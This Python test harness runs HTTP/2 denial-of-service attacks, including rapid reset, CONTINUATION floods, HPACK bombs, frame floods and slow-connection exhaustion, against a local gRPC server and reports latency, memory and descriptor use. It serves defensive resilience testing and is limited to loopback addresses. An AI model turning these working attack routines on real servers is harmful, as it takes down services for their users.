#!/usr/bin/env python3
"""Attacks a denoised server on this machine, and shows what that costs it and its callers.

Before, during and after the attack, a well-behaved caller asks grpc.health.v1.Health/Check, both on
a connection that it keeps ("calls") and on a new one each time ("newcomers"). The table has the
latency of both, and the server's resident memory and open descriptors: during the attack the
highest, afterwards the last. `ATTACK --help` says what an attack shows.

This is safe to run. It connects to loopback addresses only. Connections, frames, bytes and seconds
have upper limits that a machine can bear, and a process that overruns its time is ended. The
attacker uses 127.0.0.2 (and the addresses after it with --addresses), the caller 127.0.0.1, so that
limits per address tell the two apart. One file without dependencies, so that it can be copied to
the machine whose server is to be tried.

Examples:
  denoised --models deploy/models &
  tests/attack/http2_attacks.py rapid-reset --pid $! --connections 8 --count 20000
  tests/attack/http2_attacks.py continuation --pid $! --connections 3 --mib 25
  tests/attack/http2_attacks.py idle-connections --pid $! --connections 1100 --addresses 5 --json
  tests/attack/http2_attacks.py http-idle --pid $! --http 127.0.0.1:8080 --connections 1000

Exit codes: 0: the server has coped; 1: a call has failed (a newcomer's only before or after the
attack), or the memory has stayed more than --max-growth-mib above the start; 2: usage.
"""

import argparse
import contextlib
import functools
import ipaddress
import json
import multiprocessing
import os
import random
import re
import resource
import selectors
import signal
import socket
import statistics
import struct
import sys
import threading
import time

# RFC 9113: the connection preface, frame types (section 6), flags and settings.
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 2, 3, 4, 6, 7, 8, 9)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
INITIAL_WINDOW_SIZE = 4
CANCEL = struct.pack(">I", 8)
FRAME_BYTES = 16384  # the longest payload that every server accepts
HEALTH = "/grpc.health.v1.Health/Check"
GENERATE = "/denoised.v1.ImageGeneration/Generate"
PLAN_SAMPLER = "/denoised.v1.ImageGeneration/PlanSampler"
SERVING = b"\x00\x00\x00\x00\x02\x08\x01"  # HealthCheckResponse, as gRPC frames it
CALLS_PER_PHASE = 20
PAUSE_SECONDS = 0.02
PATIENCE_SECONDS = 30  # of the well-behaved caller


# ---- HTTP/2 ----

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def varint(value):
    encoded = b""
    while value >= 128:
        encoded, value = encoded + bytes([value & 127 | 128]), value >> 7
    return encoded + bytes([value])


def hpack_length(length):
    """RFC 7541, section 5.1, with a prefix of 7 bits."""
    return bytes([length]) if length < 127 else b"\x7f" + varint(length - 127)


def literal(name, value, indexing=b"\x00"):
    """RFC 7541, section 6.2: a header in full, without Huffman coding."""
    return indexing + hpack_length(len(name)) + name + hpack_length(len(value)) + value


@functools.cache
def request_block(path):
    return b"".join(literal(*header) for header in (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()),
        (b":authority", b"localhost"), (b"te", b"trailers"),
        (b"content-type", b"application/grpc")))


START = PREFACE + frame(SETTINGS, 0, 0)


class FrameSocket:
    """Sends bytes and reads frames until the deadline. Raises OSError."""

    def __init__(self, connected, deadline):
        self.socket, self.deadline = connected, deadline
        self.received = b""

    def send(self, data):
        self.socket.settimeout(max(0.001, self.deadline - time.monotonic()))
        self.socket.sendall(data)

    def read_bytes(self, count):
        while len(self.received) < count:
            self.socket.settimeout(max(0.001, self.deadline - time.monotonic()))
            data = self.socket.recv(65536)
            if not data:
                raise ConnectionError("closed by the server")
            self.received += data
        taken, self.received = self.received[:count], self.received[count:]
        return taken

    def next_frame(self):
        """Its type, flags, stream and payload."""
        header = self.read_bytes(9)
        payload = self.read_bytes(int.from_bytes(header[:3], "big"))
        return header[3], header[4], int.from_bytes(header[5:], "big"), payload


class Connection(FrameSocket):
    """Makes one gRPC call after another, as a client should. Raises OSError."""

    def __init__(self, address, patience=PATIENCE_SECONDS, source=None):
        super().__init__(connect(address, source, patience), time.monotonic() + patience)
        self.stream = -1
        self.window = self.initial_window = 65535
        self.socket.sendall(START + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))

    def close(self):
        self.socket.close()

    def call(self, path, message=b"", patience=PATIENCE_SECONDS):
        """Returns the answer's bytes: headers, messages, trailers."""
        self.deadline = time.monotonic() + patience
        self.stream += 2
        self.answer, self.ended, self.stream_window = b"", False, self.initial_window
        self.send(frame(HEADERS, END_HEADERS, self.stream, request_block(path)))
        rest = b"\x00" + struct.pack(">I", len(message)) + message
        while rest and not self.ended:
            room = min(self.window, self.stream_window, FRAME_BYTES)
            if room <= 0:
                self.read_frame()
                continue
            piece, rest = rest[:room], rest[room:]
            self.window -= len(piece)
            self.stream_window -= len(piece)
            self.send(frame(DATA, 0 if rest else END_STREAM, self.stream, piece))
        while not self.ended:
            self.read_frame()
        return self.answer

    def read_frame(self):
        kind, flags, stream, payload = self.next_frame()
        if kind == GOAWAY:
            raise ConnectionError("the server has sent GOAWAY")
        if kind in (SETTINGS, PING) and not flags & ACK:
            self.send(frame(kind, ACK, 0, b"" if kind == SETTINGS else payload))
        if kind == SETTINGS:
            self.read_settings(payload)
        if kind == WINDOW_UPDATE and stream in (0, self.stream):
            name = "stream_window" if stream else "window"
            setattr(self, name, getattr(self, name) + int.from_bytes(payload, "big"))
        if stream == self.stream and kind in (HEADERS, CONTINUATION, DATA):
            self.answer += payload
            self.ended = bool(kind != CONTINUATION and flags & END_STREAM)
        if stream == self.stream and kind == RST_STREAM:
            self.ended = True

    def read_settings(self, payload):
        for name, value in struct.iter_unpack(">HI", payload):
            if name == INITIAL_WINDOW_SIZE:
                self.stream_window = value + getattr(self, "stream_window", 0) - self.initial_window
                self.initial_window = value


def connect(address, source, patience):
    host, port = address
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    connected = socket.socket(family, socket.SOCK_STREAM)
    try:
        connected.settimeout(patience)
        if source is not None:
            connected.bind((source, 0))
        connected.connect((host, port))
        connected.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    except OSError:
        connected.close()
        raise
    return connected


# ---- The attacker, in a process of its own ----

class Attacker:
    """What attacks have in common: connections, a deadline, and counts of what has happened."""

    def __init__(self, options):
        self.options = options
        self.deadline = time.monotonic() + options.seconds
        self.lock = threading.Lock()
        self.counts = {"opened": 0, "refused": 0, "closed_by_server": 0, "survived": 0,
                       "mib_sent": 0.0}
        self.statuses = set()

    def count(self, name, amount=1):
        with self.lock:
            self.counts[name] = self.counts.get(name, 0) + amount

    def left(self):
        return max(0.001, self.deadline - time.monotonic())

    def connect(self, number, address=None):
        """None if the server does not accept."""
        options = self.options
        source = None
        if ":" not in options.address[0]:
            source = f"127.0.0.{2 + number % options.addresses}"
        try:
            connected = connect(address or options.address, source, min(5, self.left()))
        except OSError:
            self.count("refused")
            return None
        self.count("opened")
        return connected

    def on_each_connection(self, act):
        """Runs act(number) for every connection, a few dozen at a time."""
        numbers = iter(range(self.options.connections))

        def work():
            while time.monotonic() < self.deadline:
                with self.lock:
                    number = next(numbers, None)
                if number is None:
                    return
                act(number)

        threads = [threading.Thread(target=work) for _ in range(min(32, self.options.connections))]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def flood(self, pieces, first=b"", start=START):
        """On each connection, sends `first` and all pieces, and then a PING that is answered once
        the server has read them, if it does not close the connection."""
        if self.options.acknowledge and start:
            start += frame(SETTINGS, ACK, 0)

        def act(number):
            connected = self.connect(number)
            if connected is None:
                return
            with connected:
                try:
                    for piece in (start + first, *pieces(), frame(PING, 0, 0, b"the end!")):
                        connected.settimeout(self.left())
                        connected.sendall(piece)
                        self.count("mib_sent", len(piece) / 2**20)
                    last = b""
                    while frame(PING, ACK, 0, b"the end!") not in last:
                        connected.settimeout(self.left())
                        data = connected.recv(65536)
                        if not data:
                            raise ConnectionError("closed by the server")
                        last = last[-64:] + data
                    self.count("survived")
                except TimeoutError:
                    self.count("survived")
                except OSError:
                    self.count("closed_by_server")
        self.on_each_connection(act)

    def hold(self, first=b"", trickle=b"", address=None, begun=lambda: True):
        """Keeps all connections until the server has closed them or --hold has passed since they
        have `begun` to matter, and sends a byte of `trickle` on each twice a second."""
        until = self.deadline
        with contextlib.ExitStack() as stack, selectors.DefaultSelector() as selector:
            for number in range(self.options.connections):
                if time.monotonic() > until:
                    break
                connected = self.connect(number, address)
                if connected is not None:
                    stack.enter_context(connected)
                    selector.register(connected, selectors.EVENT_READ)
                    self.try_to_send(connected, first)
            for tick in range(10**6):
                if not selector.get_map() or time.monotonic() > until:
                    break
                if until == self.deadline and begun():
                    until = min(self.deadline - 0.001, time.monotonic() + self.options.hold)
                for key, _ in selector.select(0.5):
                    if not self.is_open(key.fileobj):
                        selector.unregister(key.fileobj)
                        self.count("closed_by_server")
                for key in list(selector.get_map().values()):
                    self.try_to_send(key.fileobj, trickle[tick:tick + 1])
            self.count("survived", len(selector.get_map()))

    @staticmethod
    def try_to_send(connected, data):
        with contextlib.suppress(OSError):
            connected.sendall(data)

    @staticmethod
    def is_open(connected):
        try:
            return bool(connected.recv(65536))
        except OSError:
            return False


def joined(count, make, at_once=256):
    """make(0) to make(count - 1), joined to pieces that are worth a system call each."""
    def pieces():
        for start in range(0, count, at_once):
            yield b"".join(make(i) for i in range(start, min(count, start + at_once)))
    return pieces


def open_stream(i, path=GENERATE, flags=END_HEADERS):
    return frame(HEADERS, flags, 2 * i + 1, request_block(path))


def rapid_reset(attacker):
    """Opens streams and resets them at once (CVE-2023-44487)."""
    attacker.flood(joined(attacker.options.count, lambda i: (
        open_stream(i) + frame(RST_STREAM, 0, 2 * i + 1, CANCEL))))


def server_resets(attacker):
    """Makes the server reset streams, by WINDOW_UPDATE frames of 0 (CVE-2025-8671)."""
    attacker.flood(joined(attacker.options.count, lambda i: (
        open_stream(i) + frame(WINDOW_UPDATE, 0, 2 * i + 1, bytes(4)))))


def refused_streams(attacker):
    """Opens streams far beyond the server's limit, and never ends or resets one. gRPC 1.51 has no
    limit for clients that do not acknowledge its SETTINGS: see --acknowledge."""
    attacker.flood(joined(attacker.options.count, open_stream))


def unknown_methods(attacker):
    """Calls a method that does not exist, without reading the answers. See --acknowledge."""
    attacker.flood(joined(attacker.options.count, lambda i: (
        open_stream(i, "/none/None", END_HEADERS | END_STREAM))))


def continuation(attacker):
    """Sends one header block of --mib in CONTINUATION frames (CVE-2024-27316)."""
    size = int(attacker.options.mib * 2**20)
    begin = request_block(GENERATE) + literal(b"x", b"")[:-1] + hpack_length(size)
    part = frame(CONTINUATION, 0, 1, b"x" * FRAME_BYTES)

    def pieces():
        for _ in range(size // FRAME_BYTES):
            yield part
        yield frame(CONTINUATION, END_HEADERS, 1, b"x" * (size % FRAME_BYTES))
    attacker.flood(pieces, frame(HEADERS, 0, 1, begin))


def empty_continuation(attacker):
    """Sends CONTINUATION frames that hold nothing, so that no size limit is ever reached."""
    attacker.flood(joined(attacker.options.count, lambda i: frame(CONTINUATION, 0, 1), 4096),
                   open_stream(0, flags=0))


def hpack_bomb(attacker):
    """Names one large entry of the header table by a byte each, thousands of times a block."""
    entry = literal(b"x", b"x" * 3900, indexing=b"\x40")
    block = request_block(GENERATE) + b"\xbe" * 60000  # 62: the newest entry

    def bomb(i):
        parts = [block[at:at + FRAME_BYTES] for at in range(0, len(block), FRAME_BYTES)]
        frames = [frame(CONTINUATION, 0, 2 * i + 3, part) for part in parts[1:-1]]
        return (frame(HEADERS, END_STREAM, 2 * i + 3, parts[0]) + b"".join(frames)
                + frame(CONTINUATION, END_HEADERS, 2 * i + 3, parts[-1]))
    attacker.flood(joined(attacker.options.count, bomb, 1),
                   frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block(GENERATE) + entry))


def frame_flood(make):
    def attack(attacker):
        attacker.flood(joined(attacker.options.count, make, 4096), open_stream(0))
    return attack


def idle_connections(attacker):
    """Connects and says nothing."""
    attacker.hold()


def preface_only(attacker):
    """Begins to speak HTTP/2, then says nothing."""
    attacker.hold(START)


def slow_preface(attacker):
    """Sends the first bytes of a connection twice a second."""
    attacker.hold(trickle=PREFACE)


def http_idle(attacker):
    """Connects to the HTTP port and says nothing; the newcomers are scrapes."""
    attacker.hold(address=attacker.options.http)


def http_slow_header(attacker):
    """Sends the head of an HTTP request twice a second, a byte at a time; scrapes again."""
    attacker.hold(address=attacker.options.http, trickle=b"GET /healthz HTTP/1.1\r\nHost: x\r\n")


def connection_churn(attacker):
    """Opens connections, says hello and leaves, again and again."""
    def act(number):
        connected = attacker.connect(number)
        if connected is not None:
            with connected:
                attacker.try_to_send(connected, START)
    attacker.on_each_connection(act)


def garbage(attacker):
    """Sends what is not HTTP/2, or begins as HTTP/2 and goes on with noise."""
    noise = random.Random(7)
    kinds = (b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n", b"\x16\x03\x01\x02\x00\x01\x00",
             PREFACE[:20] + b"!" * 100, noise.randbytes(65536), START + noise.randbytes(65536),
             START + frame(HEADERS, END_HEADERS, 1, noise.randbytes(4096)) * 20)
    numbers = iter(range(10**9))
    attacker.flood(lambda: (kinds[next(numbers) % len(kinds)],), start=b"")


def descriptors(attacker):
    """Lowers the server's RLIMIT_NOFILE for --hold seconds, uses it up, and restores it."""
    pid = attacker.options.pid
    before = resource.prlimit(pid, resource.RLIMIT_NOFILE)
    lower = min(before[0], open_descriptors(pid) + 20)
    try:
        resource.prlimit(pid, resource.RLIMIT_NOFILE, (lower, before[1]))
        attacker.hold(START, begun=lambda: open_descriptors(pid) >= lower - 3)
    finally:
        resource.prlimit(pid, resource.RLIMIT_NOFILE, before)


def many_repeated(attacker):
    """Asks for frames.kinds of --count entries (at 4,000,000, a message of 4 MB)."""
    kinds = b"\x01" * attacker.options.count
    frames = b"\x08\x01\x12" + varint(len(kinds)) + kinds
    model = attacker.options.model.encode()
    request = (b"\x0a" + varint(len(model)) + model
               + b"\x3a" + varint(len(frames)) + frames)

    def act(number):
        with contextlib.suppress(OSError):
            connection = Connection(attacker.options.address, attacker.left())
            attacker.count("opened")
            with contextlib.closing(connection):
                answer = connection.call(GENERATE, request, attacker.left())
                attacker.count("mib_sent", len(request) / 2**20)
                found = re.search(rb"grpc-status[\x01\x02](\d+)", answer)
                attacker.statuses.add(int(found[1]) if found else -1)
                attacker.count("survived")
    attacker.on_each_connection(act)


def unread_answers(attacker):
    """Calls PlanSampler --count times on each connection with an HTTP/2 window of 0, which leaves no
    room for an answer, and waits until the server has cancelled all calls or --hold has passed."""
    options = attacker.options
    model = options.model.encode()
    sampler = b"\x10" + varint(1000)  # steps
    request = (b"\x0a" + varint(len(model)) + model
               + b"\x12" + varint(len(sampler)) + sampler)
    message = b"\x00" + struct.pack(">I", len(request)) + request
    no_window = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))

    def act(number):
        connected = attacker.connect(number)
        if connected is None:
            return
        until = min(attacker.deadline, time.monotonic() + options.hold)
        calls = {2 * i + 1 for i in range(options.count)}
        with connected:
            connection = FrameSocket(connected, until)
            try:
                connection.send(no_window + frame(SETTINGS, ACK, 0) + b"".join(
                    open_stream(i, PLAN_SAMPLER) + frame(DATA, END_STREAM, 2 * i + 1, message)
                    for i in range(options.count)))
                while calls:
                    kind, flags, stream, payload = connection.next_frame()
                    if kind == PING and not flags & ACK:
                        connection.send(frame(PING, ACK, 0, payload))
                    if stream in calls and kind == RST_STREAM:
                        calls.remove(stream)
                        attacker.count("calls_cancelled")
            except TimeoutError:
                attacker.count("survived")
            except OSError:
                attacker.count("closed_by_server")
    attacker.on_each_connection(act)


# Name: what to do, and the defaults of --connections, --count, --mib and --hold.
ATTACKS = {
    "rapid-reset": (rapid_reset, 8, 20000, 0, 0),
    "server-resets": (server_resets, 8, 20000, 0, 0),
    "refused-streams": (refused_streams, 8, 20000, 0, 0),
    "unknown-methods": (unknown_methods, 8, 20000, 0, 0),
    "continuation": (continuation, 3, 0, 25, 0),
    "empty-continuation": (empty_continuation, 8, 200000, 0, 0),
    "hpack-bomb": (hpack_bomb, 8, 200, 0, 0),
    "settings-flood": (frame_flood(lambda i: frame(SETTINGS, 0, 0)), 8, 200000, 0, 0),
    "ping-flood": (frame_flood(lambda i: frame(PING, 0, 0, bytes(8))), 8, 200000, 0, 0),
    "priority-flood": (
        frame_flood(lambda i: frame(PRIORITY, 0, 2 * i + 3, bytes(5))), 8, 200000, 0, 0),
    "window-flood": (
        frame_flood(lambda i: frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1")), 8, 200000, 0, 0),
    "empty-data": (frame_flood(lambda i: frame(DATA, 0, 1)), 8, 200000, 0, 0),
    "idle-connections": (idle_connections, 1100, 0, 0, 15),
    "preface-only": (preface_only, 1100, 0, 0, 15),
    "slow-preface": (slow_preface, 200, 0, 0, 15),
    "connection-churn": (connection_churn, 3000, 0, 0, 0),
    "descriptors": (descriptors, 200, 0, 0, 2),
    "garbage": (garbage, 300, 0, 0, 0),
    "http-idle": (http_idle, 1000, 0, 0, 10),
    "http-slow-header": (http_slow_header, 1000, 0, 0, 10),
    "many-repeated": (many_repeated, 1, 4_000_000, 0, 0),
    "unread-answers": (unread_answers, 4, 120, 0, 30),
}


def attack_and_report(options, results):
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(1))  # runs what is in `finally`
    attacker = Attacker(options)
    started = time.monotonic()
    ATTACKS[options.attack][0](attacker)
    report = {**attacker.counts, "seconds": time.monotonic() - started}
    if attacker.statuses:
        report["grpc_statuses"] = sorted(attacker.statuses)
    results.send(report)


# ---- What is measured ----

def resident_mib(pid):
    with open(f"/proc/{pid}/statm") as statm:
        return int(statm.read().split()[1]) * os.sysconf("SC_PAGE_SIZE") / 2**20


def open_descriptors(pid):
    return len(os.listdir(f"/proc/{pid}/fd"))


class Caller:
    """Calls one after another, and remembers how long they took. Latencies are in milliseconds."""

    def __init__(self, make_call):
        self.make_call = make_call
        self.latencies, self.failures = [], 0

    def call(self):
        started = time.monotonic()
        try:
            self.make_call()
        except OSError:
            self.failures += 1
        else:
            self.latencies.append(1000 * (time.monotonic() - started))

    def take(self):
        taken = {"calls": len(self.latencies), "failed": self.failures,
                 "median_ms": statistics.median(self.latencies or [0]),
                 "worst_ms": max(self.latencies or [0])}
        self.latencies, self.failures = [], 0
        return taken


class KeptConnection:
    def __init__(self, address):
        self.address, self.connection = address, None

    def check(self):
        try:
            self.connection = self.connection or Connection(self.address)
            if SERVING not in self.connection.call(HEALTH):
                raise ConnectionError("not SERVING")
        except OSError:
            if self.connection is not None:
                self.connection.close()
            self.connection = None
            raise


def check_once(address):
    with contextlib.closing(Connection(address)) as connection:
        if SERVING not in connection.call(HEALTH):
            raise ConnectionError("not SERVING")


def scrape(address):
    with connect(address, None, PATIENCE_SECONDS) as connected:
        connected.sendall(b"GET /metrics HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
        answer = b""
        while data := connected.recv(65536):
            answer += data
        if not answer.startswith(b"HTTP/1.1 200"):
            raise ConnectionError("no metrics")


class Observer:
    """The well-behaved caller, and a thread that watches the process."""

    def __init__(self, options):
        self.pid = options.pid
        self.caller = Caller(KeptConnection(options.address).check)
        if options.attack.startswith("http-"):
            self.newcomer = Caller(lambda: scrape(options.http))
        else:
            self.newcomer = Caller(lambda: check_once(options.address))
        self.peaks = [0, 0]
        threading.Thread(target=self.watch, daemon=True).start()

    def watch(self):
        with contextlib.suppress(OSError):  # until the server ends
            while True:
                now = resident_mib(self.pid), open_descriptors(self.pid)
                self.peaks = list(map(max, self.peaks, now))
                time.sleep(0.01)

    def phase(self, goes_on):
        self.peaks = [0, 0]
        while True:
            self.caller.call()
            self.newcomer.call()
            if not goes_on(len(self.caller.latencies) + self.caller.failures):
                break
            time.sleep(PAUSE_SECONDS)
        last = resident_mib(self.pid), open_descriptors(self.pid)
        return {"resident_mib": last[0], "descriptors": last[1],
                "peak_mib": max(self.peaks[0], last[0]),
                "peak_descriptors": max(self.peaks[1], last[1]),
                "calls": self.caller.take(), "newcomers": self.newcomer.take()}


def run(options):
    observer = Observer(options)
    report = {"attack": options.attack}
    report["before"] = observer.phase(lambda calls: calls < CALLS_PER_PHASE)
    ours, theirs = multiprocessing.Pipe(duplex=False)
    process = multiprocessing.Process(target=attack_and_report, args=(options, theirs), daemon=True)
    process.start()
    theirs.close()
    end = time.monotonic() + options.seconds + 5
    report["during"] = observer.phase(lambda _: process.is_alive() and time.monotonic() < end)
    process.terminate()
    process.join()
    with contextlib.suppress(EOFError):
        report["attacker"] = ours.recv()
    limit = report["before"]["resident_mib"] + options.max_growth_mib
    end = time.monotonic() + options.settle_seconds
    while (open_descriptors(options.pid) > report["before"]["peak_descriptors"]
           and time.monotonic() < end):
        time.sleep(PAUSE_SECONDS)  # the attacker's places are not free yet
    report["after"] = observer.phase(lambda calls: calls < CALLS_PER_PHASE or (
        resident_mib(options.pid) > limit and time.monotonic() < end))
    failed = sum(report[phase]["calls"]["failed"] for phase in ("before", "during", "after"))
    failed += sum(report[phase]["newcomers"]["failed"] for phase in ("before", "after"))
    report["coped"] = failed == 0 and report["after"]["resident_mib"] <= limit
    return report


def print_table(report):
    print(f"{'':8} {'resident':>9} {'open':>6}   {'kept connection':^36}   {'newcomers':^36}")
    columns = f"{'calls':>6} {'failed':>7} {'median ms':>10} {'worst ms':>10}"
    print(f"{'':8} {'MiB':>9} {'files':>6}   {columns}   {columns}")
    for phase in ("before", "during", "after"):
        values = report[phase]
        which = "peak_" if phase == "during" else ""
        resident = values["peak_mib" if which else "resident_mib"]
        line = f"{phase:8} {resident:9.0f} {values[which + 'descriptors']:6}"
        for who in ("calls", "newcomers"):
            calls = values[who]
            line += (f"   {calls['calls']:6} {calls['failed']:7} {calls['median_ms']:10.1f}"
                     f" {calls['worst_ms']:10.1f}")
        print(line)
    print(", ".join(f"{name} {value:.1f}" if isinstance(value, float) else f"{name} {value}"
                    for name, value in report.get("attacker", {"ended early": True}).items()))


# ---- The command line ----

def loopback(text):
    host, _, port = text.rpartition(":")
    host = host.strip("[]")
    try:
        if ipaddress.ip_address(host).is_loopback and 0 < int(port) < 65536:
            return host, int(port)
    except ValueError:
        pass
    raise argparse.ArgumentTypeError(
        f"{text!r} is not a loopback address; use 127.0.0.1:PORT or [::1]:PORT")


def up_to(limit, kind=int):
    def parse(text):
        value = kind(text)
        if not 0 <= value <= limit:
            raise argparse.ArgumentTypeError(f"{text} is not between 0 and {limit}")
        return value
    parse.__name__ = "number"
    return parse


def process_id(text):
    try:
        open_descriptors(int(text))
    except (OSError, ValueError):
        raise argparse.ArgumentTypeError(f"{text!r} is no process that you may watch") from None
    return int(text)


def parse(arguments):
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    attacks = parser.add_subparsers(dest="attack", required=True, metavar="ATTACK")
    for name, (function, connections, count, mib, hold) in ATTACKS.items():
        shows = function.__doc__ or f"Sends {name.split('-')[0]} frames that mean nothing."
        one = attacks.add_parser(name, help=shows, description=shows)
        one.add_argument("--address", type=loopback, default="127.0.0.1:50051")
        one.add_argument("--http", type=loopback, default="127.0.0.1:8080")
        one.add_argument("--pid", type=process_id, required=True, help="the server's")
        one.add_argument("--connections", type=up_to(4096), default=connections)
        one.add_argument("--addresses", type=up_to(200), default=1,
                         help="how many source addresses the attacker has")
        one.add_argument("--count", type=up_to(4_000_000), default=count,
                         help="frames, streams, entries per connection")
        one.add_argument("--mib", type=up_to(64, float), default=mib, help="per connection")
        one.add_argument("--hold", type=up_to(60, float), default=hold,
                         help="seconds to keep the connections")
        one.add_argument("--acknowledge", action="store_true",
                         help="acknowledge the server's SETTINGS, so that its limits hold")
        one.add_argument("--model", default="models/emoji-32")
        one.add_argument("--seconds", type=up_to(120, float), default=60,
                         help="the longest that the attack may take")
        one.add_argument("--settle-seconds", type=up_to(60, float), default=10,
                         help="the longest to wait for the memory to fall afterwards")
        one.add_argument("--max-growth-mib", type=up_to(65536, float), default=256)
        one.add_argument("--json", action="store_true", help="one line of JSON")
    options = parser.parse_args(arguments)
    if options.addresses < 1:
        parser.error("--addresses must be at least 1")
    return options


def main(arguments):
    options = parse(arguments)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    try:
        report = run(options)
    except OSError as error:
        print(f"http2_attacks: the server has ended: {error}", file=sys.stderr)
        return 1
    if options.json:
        print(json.dumps(report))
    else:
        print_table(report)
    return 0 if report["coped"] else 1


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
